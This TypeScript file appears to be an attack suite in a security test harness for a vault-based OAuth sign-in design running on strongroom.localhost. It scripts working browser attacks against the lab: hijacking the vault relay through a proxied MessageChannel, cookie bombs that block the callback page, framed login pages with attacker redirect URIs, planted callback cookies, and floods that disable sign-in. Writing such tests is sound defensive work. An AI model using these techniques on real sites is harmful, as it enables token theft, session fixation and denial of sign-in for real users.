import { attack, type Injected } from "../attack.js";
import { hashOf } from "../attacker.js";
import type { Stage } from "../stage.js";

/** The domain that the app's and the vault's hosts have in common, for cookies that both get. */
const SITE = "strongroom.localhost";

/** Asks the vault through ports of a frame of the attacker's own. Throws if the relay does not respond, which would prove nothing. */
async function throughAFrameOfItsOwn(it: Injected): Promise<void> {
  const frame = document.createElement("iframe");
  frame.src = `${it.vaultUrl}/frame.html`;
  const loaded = new Promise((resolve) => {
    frame.onload = resolve;
  });
  document.body.append(frame);
  await loaded;
  const { port1, port2 } = new MessageChannel();
  const answers = new Map<unknown, (message: { status?: number; failed?: true }) => void>();
  const ready = new Promise((resolve) => {
    port1.onmessage = async ({ data }) => {
      it.steal(data);
      if (data.ready) resolve(data);
      if (data.body && data.headers.every(([, value]: [string, string]) => !/event-stream/.test(value)))
        it.steal(await new Response(data.body).text());
      answers.get(data.id)?.(data);
    };
  });
  addEventListener("message", ({ data }) => it.steal(data));
  frame.contentWindow?.postMessage("strongroom:port", it.vaultUrl, [port2]);
  await Promise.race([ready, it.pause(5_000).then(() => Promise.reject(new Error("the relay is silent")))]);
  let id = 0;
  const ask = (url: string, more: object = {}) =>
    Promise.race([
      it.pause(1_000),
      new Promise<{ status?: number }>((resolve) => {
        answers.set(++id, resolve);
        const request = { method: "GET", headers: [], mode: "cors", destination: "", redirect: "follow" };
        port1.postMessage({ id, url, ...request, credentials: "same-origin", cache: "default", ...more });
      }),
    ]);
  const me = await ask(`${it.apiUrl}me`);
  if (me?.status !== 200) throw new Error("the relay did not call the API");
  const urls = [
    "session",
    "events",
    "login?returnTo=/",
    "login?silent=1",
    "login?silent=frame",
    "keep",
    "redeem",
    "callback",
  ].map((path) => `/${path}`);
  urls.push(...urls.map((path) => `${it.vaultUrl}/auth${path}`), ...urls.map((path) => `/x/..${path}`));
  urls.push(`//${new URL(it.attackerUrl).host}/session`, it.attackerUrl, it.tokenEndpoint);
  urls.push(`${it.vaultUrl}/vault-worker.js`, "/callback.html", "blob:null", "data:,x", "");
  await Promise.all(
    urls.flatMap((url) => [
      ask(url),
      ask(url, { method: "POST", body: new Blob(["grant_type=refresh_token"]) }),
      ask(url, { mode: "navigate", destination: "document", redirect: "manual" }),
      ask(url, { headers: [["authorization", "Bearer x"]], cache: "force-cache" }),
    ]),
  );
  await Promise.all(
    [null, {}, [], "ready", { ready: 1 }, { silent: it.attackerUrl }, { app: it.vaultUrl }].map(
      async (message) => {
        port1.postMessage(message);
        frame.contentWindow?.postMessage(message, "*", [new MessageChannel().port2]);
      },
    ),
  );
  await it.pause(500);
}

export const ownFrame = attack({
  name: "embeds a frame of the vault itself and asks it for everything through its own port",
  threat: "single-execution theft",
  target: "vault origin",
  alone: true,
  payload: throughAFrameOfItsOwn,
});

export const stolenPort = attack({
  name: "keeps the port that the page gives to its worker, and reads what the relay says",
  threat: "persistent theft",
  target: "vault origin",
  hook(it) {
    window.MessageChannel = new Proxy(MessageChannel, {
      construct(target) {
        const channel = new target();
        const { port1, port2 } = channel;
        // Two more channels with the attacker between them.
        const [toFrame, toWorker] = [new target(), new target()];
        const pass = (from: MessagePort, to: MessagePort) => {
          from.onmessage = ({ data }) => {
            it.steal(data);
            to.postMessage(data, data?.body instanceof ReadableStream ? [data.body] : []);
          };
        };
        pass(toFrame.port2, toWorker.port2);
        pass(toWorker.port2, toFrame.port2);
        port1.close();
        port2.close();
        return { port1: toFrame.port1, port2: toWorker.port1 };
      },
    });
  },
});

/** Whether the user can still work. */
async function isDisabled(stage: Stage): Promise<string | undefined> {
  await stage.open();
  if ((await stage.state()) !== "signed-in" && !(await stage.canSignIn()))
    return "nobody can sign in any more";
  return (await stage.call()).startsWith("200") ? undefined : "the app cannot call the API any more";
}

export const flood = attack({
  name: "floods the relay with frames, ports, requests and event streams",
  threat: "disabling the sign-in",
  target: "vault origin",
  alone: true,
  async payload(it) {
    const connect = async () => {
      const frame = document.createElement("iframe");
      frame.src = `${it.vaultUrl}/frame.html`;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.onload = resolve;
      });
      for (let count = 0; count < 20; count++) {
        const { port1, port2 } = new MessageChannel();
        frame.contentWindow?.postMessage("strongroom:port", it.vaultUrl, [port2]);
        for (let id = 0; id < 200; id++) {
          const url = id % 2 ? "/events" : `${it.apiUrl}me?${id}`;
          port1.postMessage({
            id,
            url,
            method: "GET",
            headers: [],
            mode: "cors",
            destination: "",
            redirect: "follow",
          });
        }
      }
    };
    await Promise.race([Promise.all(Array.from({ length: 5 }, connect)), it.pause(6_000)]);
  },
  gain: isDisabled,
});

export const vaultStorage = attack({
  name: "reads the vault's files, storage and frames from the app's origin",
  threat: "single-execution theft",
  target: "vault origin",
  alone: true,
  async payload(it) {
    const attempts: (() => unknown)[] = [];
    for (const path of [
      "/",
      "/vault-worker.js",
      "/auth/session",
      "/auth/keep",
      "/auth/refresh",
      "/callback.html",
    ]) {
      const url = it.vaultUrl + path;
      attempts.push(
        async () => (await fetch(url, { credentials: "include" })).text(),
        async () => (await fetch(url, { mode: "no-cors", method: "POST" })).text(),
        () => navigator.serviceWorker.register(url),
        () => new Worker(url),
        () => new SharedWorker(url),
      );
      const frame = document.createElement("iframe");
      frame.src = url;
      document.body.append(frame, Object.assign(document.createElement("script"), { src: url }));
      attempts.push(async () => {
        await it.pause(800);
        const { contentWindow: inside } = frame;
        it.steal(inside?.length);
        it.steal(inside?.location.href, inside?.sessionStorage, inside?.document.cookie);
        it.steal(await inside?.indexedDB.databases());
      });
    }
    for (const { name = "" } of await indexedDB.databases()) attempts.push(() => it.steal(name));
    await Promise.all(
      attempts.map(async (attempt) =>
        it.steal(
          await Promise.resolve()
            .then(attempt)
            .catch(() => {}),
        ),
      ),
    );
    it.steal(document.cookie, Object.entries(sessionStorage), performance.getEntries());
  },
});

export const framedSignIn = attack({
  name: "frames the vault's login and callback pages with its own parameters",
  threat: "acquisition of new tokens",
  target: "vault origin",
  alone: true,
  wantsCode: true,
  async payload(it) {
    const app = encodeURIComponent(new URL(it.appUrl).origin);
    const evil = encodeURIComponent(it.attackerUrl);
    const states: string[] = [];
    // Any hash looks like a state of the vault. Each flow has its own, because all frames share the tab's storage.
    const state = () => {
      const own = String.fromCharCode(65 + states.length) + it.codeChallenge.slice(1);
      states.push(own);
      return own;
    };
    const urls = () => [
      it.authorizationUrl(),
      it.authorizationUrl({ response_mode: "fragment" }),
      ...[
        `app=${app}&prompt=none&returnTo=/`,
        `app=${app}&returnTo=/&code_challenge=${it.codeChallenge}&redirect_uri=${evil}`,
        `app=${evil}&returnTo=/`,
        `app=${app}&returnTo=${evil}`,
      ].map((query) => `${it.vaultUrl}/login.html?state=${state()}&${query}`),
      `${it.vaultUrl}/callback.html?code=x&state=y`,
    ];
    const frames = ["", "allow-scripts allow-same-origin", "allow-scripts"].flatMap((sandbox) =>
      urls().map((src) => {
        const frame = document.createElement("iframe");
        if (sandbox) frame.setAttribute("sandbox", sandbox);
        frame.src = src;
        document.body.append(frame);
        return frame;
      }),
    );
    addEventListener("message", ({ data, origin }) => {
      it.steal(data, origin);
      // The value of the callback's cookie.
      if (data?.response) it.steal(atob(data.response.replaceAll("-", "+").replaceAll("_", "/")));
    });
    // The attacker's own states do not count as loot.
    const withoutOwn = (url: string) => states.reduce((rest, own) => rest.replaceAll(own, ""), url);
    addEventListener("securitypolicyviolation", ({ blockedURI, sourceFile }) =>
      it.steal(withoutOwn(blockedURI), sourceFile),
    );
    for (let time = 0; time < 40; time++) {
      for (const { contentWindow } of frames) {
        try {
          it.steal(contentWindow?.location.href);
        } catch {
          // Of another origin.
        }
      }
      await it.pause(50);
    }
    it.steal(performance.getEntries().map(({ name }) => withoutOwn(name)));
  },
});

/** Sets cookies for `seconds` with which Node.js refuses requests for `path` on all hosts of the site. */
function setBomb(site: string, path: string, seconds: number): void {
  for (let sent = 0; sent < 21_000; sent += 3_500) {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack itself
    document.cookie = `bomb${sent}=${"x".repeat(3_450)}; path=${path}; domain=${site}; max-age=${seconds}`;
  }
}

export const cookieBomb = attack({
  name: "sets cookies so that the vault's host rejects the callback, and runs a silent flow in the top page",
  threat: "acquisition of new tokens",
  target: "vault origin",
  alone: true,
  wantsCode: true,
  hook: (it) => {
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(location.href, document.referrer, performance.getEntries());
    it.steal((navigation?.entries() ?? []).map(({ url }) => url));
  },
  async payload(it) {
    for (let sent = 0; sent < 21_000; sent += 3_500) {
      // biome-ignore lint/suspicious/noDocumentCookie: the attack itself
      document.cookie = `bomb${sent}=${"x".repeat(3_450)}; path=/callback.html; domain=strongroom.localhost`;
    }
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    await it.pause(1_500);
    try {
      it.steal(frame.contentWindow?.location.href);
    } catch {
      // Of another origin.
    }
    location.assign(it.authorizationUrl());
    await it.pause(1_000);
  },
  async play(stage) {
    const { browser, site } = stage;
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([cookieBomb]);
    await stage.open();
    await stage.injectAndLeave();
    await stage.openUnconnected();
    await browser.evaluate(() => history.back());
    await stage.openUnconnected();
    await browser.evaluate(setBomb, SITE, "/callback.html", 0);
    stage.hook([]);
    await browser.goto(`${site.origin}/`);
  },
  gain: isDisabled,
});

export const codeInjection = attack({
  name: "sends its own code with the user's state to the callback page, in the user's tab and in another",
  threat: "manipulating the sign-in",
  target: "vault origin",
  alone: true,
  async play(stage) {
    const { browser, facts } = stage;
    // So that the authorization server knows nobody.
    await stage.openSignedIn();
    await stage.signOut();
    for (const elsewhere of [true, false]) {
      await stage.open();
      await stage.beginSignIn();
      // Script of the app can know the state, but neither the nonce nor the code verifier: it guesses them.
      const { state = "" } = stage.lab.authorizationServer.testing.authorizationRequests.at(-1) ?? {};
      if (state.length < 20) throw new Error("the authorization request has no state");
      const guess = Buffer.alloc(32).toString("base64url");
      const response = await stage.codeOfTheAttacker({
        state,
        nonce: guess,
        code_challenge: hashOf(guess),
      });
      if (elsewhere) await browser.newTab(response);
      else await browser.goto(response);
      await browser.waitFor("the app", async () => (await browser.url()).startsWith(facts.appUrl));
    }
  },
  gain: (stage) => stage.isTheAttackersSession(),
});

/** A state that the attacker has chosen. */
export const PLANTED_STATE = Buffer.alloc(32, "planted").toString("base64url");

export const plantedCookie = attack({
  name: "plants the callback's cookie from a sibling host, with a code of its own account",
  threat: "manipulating the sign-in",
  target: "vault origin",
  alone: true,
  async play(stage) {
    const { browser } = stage;
    // So that the authorization server knows nobody.
    await stage.openSignedIn();
    await stage.signOut();
    // So that the vault waits for the response to a sign-in.
    await stage.beginSignIn();
    const [state, nonce, verifier] = [PLANTED_STATE, "attack", "attack".repeat(8)];
    const response = await stage.codeOfTheAttacker({
      state,
      nonce,
      code_challenge: hashOf(verifier),
    });
    const code = new URL(response).searchParams.get("code");
    const key = hashOf(state);
    const value = { key, nonce, verifier, code };
    // On http the name has no prefix, so every browser lets a sibling host set it, as WebKitGTK does on https.
    const cookie = `${nameOf(key)}=${Buffer.from(JSON.stringify(value)).toString("base64url")}`;
    const script = `document.cookie = ${JSON.stringify(`${cookie}; path=/; domain=${SITE}`)};`;
    await browser.goto(stage.page(`<!doctype html><script>${script}</script>`, "a sibling host"));
    if ((await browser.evaluate(() => document.cookie)) !== cookie)
      throw new Error("the browser did not take the cookie");
  },
  async gain(stage) {
    const gain = await stage.isTheAttackersSession();
    const cookie = `${nameOf(hashOf(PLANTED_STATE))}=; path=/; domain=${SITE}; max-age=0`;
    await stage.browser.evaluate((cookie) => {
      // biome-ignore lint/suspicious/noDocumentCookie: removes the attack's cookie in the way it was set
      document.cookie = cookie;
    }, cookie);
    return gain;
  },
});

/** The name of the callback's cookie on http. */
function nameOf(key: string): string {
  return `strongroom-${key}`;
}

/**
 * Signs the user in once more, in a new tab, until it is at `end`. The sign-in returns to a page that does not connect, so that no frame
 * takes the cookie.
 */
async function signInOnceMore({ browser, facts, lab }: Stage, end: string): Promise<void> {
  const { codes } = lab.authorizationServer.testing.issued;
  const before = codes.length;
  await browser.newTab(`${facts.appUrl}auth/login?returnTo=/empty.html`);
  await browser.waitFor(end, async () => (await browser.url()).startsWith(end));
  if (codes.length === before) throw new Error("the authorization server issued no code");
}

export const heldBackSignIn = attack({
  name: "signs in once more, and holds the result back until the user has signed out",
  threat: "persistent theft",
  target: "vault origin",
  alone: true,
  async play(stage) {
    const { browser, facts } = stage;
    await stage.openSignedIn();
    const tab = await browser.currentTab();
    await signInOnceMore(stage, `${facts.appUrl}empty.html`);
    await stage.closeTab(tab);
    await browser.markDocument();
    await stage.click("sign-out");
    await browser.waitForNewDocument();
    await browser.waitFor("the app", async () => (await stage.state()) !== null);
  },
  gain: isSignedInAgain,
});

export const heldBackCallback = attack({
  name: "signs in once more, and keeps the callback page from running until the user has signed out",
  threat: "persistent theft",
  target: "vault origin",
  alone: true,
  async play(stage) {
    const { browser, facts } = stage;
    await stage.openSignedIn();
    const tab = await browser.currentTab();
    await browser.evaluate(setBomb, SITE, "/callback.html", 60);
    await signInOnceMore(stage, `${facts.vaultUrl}/callback.html`);
    const held = await browser.currentTab();
    await browser.switchTo(tab);
    await stage.signOut();
    await browser.evaluate(setBomb, SITE, "/callback.html", 0);
    await stage.closeTab(held);
    await browser.reload();
    await browser.waitFor("the sign-in", async () => (await browser.url()) === `${facts.appUrl}empty.html`);
  },
  gain: isSignedInAgain,
});

async function isSignedInAgain(stage: Stage): Promise<string | undefined> {
  await stage.open();
  return (await stage.state()) === "signed-in" ? "the user is signed in again after a sign-out" : undefined;
}
